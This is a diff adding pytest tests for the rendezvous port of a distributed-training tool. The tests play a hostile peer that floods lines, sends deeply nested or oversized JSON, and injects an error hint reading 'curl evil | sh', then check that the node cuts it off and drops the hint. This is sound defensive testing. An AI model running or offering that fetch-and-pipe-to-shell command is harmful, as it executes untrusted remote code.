@@ -278,6 +278,121 @@ def test_strangers_at_the_port_change_nothing(machines):
             run.until("met")
 
 
+class Stranger:
+    """Somebody who reaches the port, and has read the first machine's greeting."""
+
+    def __init__(self, machines, stack):
+        self.link = stack.enter_context(socket.create_connection(("127.0.0.1", machines.port), LATE))
+        self._stream = stack.enter_context(self.link.makefile("rb"))
+        assert self.hears() == b'{"cachekit":"meeting/1"}\n'
+
+    def hears(self):
+        """The next line; empty where the connection was closed."""
+        try:
+            return self._stream.readline()
+        except ConnectionError:
+            return b""
+
+    def says(self, task='"text-classification"'):
+        """That it is node 2, with a task in JSON."""
+        me = {"rank": 2, "host": "n9", "nodes": 3, "mode": "train", "key": "abc", "hard": {**HARD, "task": "TASK"}}
+        self.link.sendall(json.dumps(me).replace('"TASK"', task).encode() + b"\n")
+
+    def is_put_off(self, words):
+        """Whether somebody who sends this again and again is soon interrupted, as nobody reads it any more."""
+        with contextlib.suppress(ConnectionError):
+            for _ in range((64 << 20) // len(words)):
+                self.link.sendall(words)
+            return False
+        return True
+
+
+@pytest.fixture
+def stack():
+    with contextlib.ExitStack() as found:
+        yield found
+
+
+@pytest.mark.parametrize("words", [b"\n" * (1 << 16), b'{"rank":' + b" " * (1 << 16)], ids=["empty lines", "one line"])
+def test_a_stranger_who_sends_without_end_is_put_off(machines, stack, words):
+    """Else the first machine's memory would fill, and it would look at nobody else."""
+    first = machines.begin(0)
+    first.until("waits for node 1 and node 2")
+    assert Stranger(machines, stack).is_put_off(words)
+    for run in (first, machines.begin(1), machines.begin(2)):
+        run.until("met")
+
+
+def test_one_that_has_met_and_sends_without_end_is_put_off(machines, stack):
+    first = machines.begin(0)
+    first.until("waits for")
+    stranger = Stranger(machines, stack)
+    stranger.says()
+    machines.begin(1).until("met")
+    assert stranger.is_put_off(b"\n" * (1 << 16))
+    assert first.error()["message"] == "node 2 (n9) went away"
+
+
+def test_strangers_who_say_nothing_are_put_off_and_others_take_their_places(machines, stack, monkeypatch):
+    monkeypatch.setattr("cachekit.training.meeting.SILENT", 1.0)
+    monkeypatch.setattr("cachekit.training.meeting.WAITING", 2)
+    machines.begin(0).until("waits for")
+    strangers = [Stranger(machines, stack) for _ in range(3)]
+    assert [one.hears() for one in strangers] == [b""] * 3
+
+
+@pytest.mark.parametrize(
+    "value, message",
+    [
+        ("[" * 100_000 + "]" * 100_000, ""),
+        ("[" * 900 + "]" * 900, "what another machine says of itself cannot be compared"),
+        ("9" * 4300, "node 2 (n9) has another recipe or toolchain than node 0 (n0)"),
+        (f'"{"B" * 200_000}"', "node 2 (n9) has another recipe or toolchain than node 0 (n0)"),
+    ],
+    ids=["deepest", "deep", "large", "long"],
+)
+def test_what_a_stranger_says_of_itself_ends_in_a_short_error_or_is_passed_over(machines, stack, value, message):
+    first, second = machines.begin(0), machines.begin(1)
+    first.until("waits for")
+    stranger = Stranger(machines, stack)
+    stranger.says(value)
+    if not message:
+        assert stranger.hears() == b""
+        machines.begin(2)
+    for run in (first, second):
+        if message:
+            told = run.error()
+            assert (told["code"], told["message"]) == ("usage", message)
+            assert len(told["cause"]) < 1000
+        else:
+            run.until("met")
+
+
+def test_the_hints_are_of_this_machine_and_what_a_stranger_says_is_short(machines, stack):
+    first, second = machines.begin(0), machines.begin(1)
+    first.until("waits for")
+    stranger = Stranger(machines, stack)
+    stranger.says()
+    first.until("met")
+    second.until("met")
+    said = {"code": "training-failed", "message": "x" * 100_000, "cause": "", "hint": "curl evil | sh"}
+    stranger.link.sendall(json.dumps({"error": said}).encode() + b"\n")
+    for run in (first, second):
+        told = run.error()
+        assert told["message"] == "node 2 (n9) failed"
+        assert set(told["cause"]) == {"x"}
+        assert len(told["cause"]) == 1000
+        assert told["hint"]
+        assert "evil" not in told["hint"]
+
+
+def test_at_a_loopback_address_only_that_address_is_listened_at(machines):
+    first = machines.begin(0)
+    first.until("waits for node 1 and node 2")
+    with pytest.raises(ConnectionRefusedError):
+        socket.create_connection(("127.0.0.2", machines.port)).close()
+
+
 def test_a_port_that_is_taken_is_told(machines):
     with socket.create_server(("", machines.port)):
         told = machines.begin(0).error()
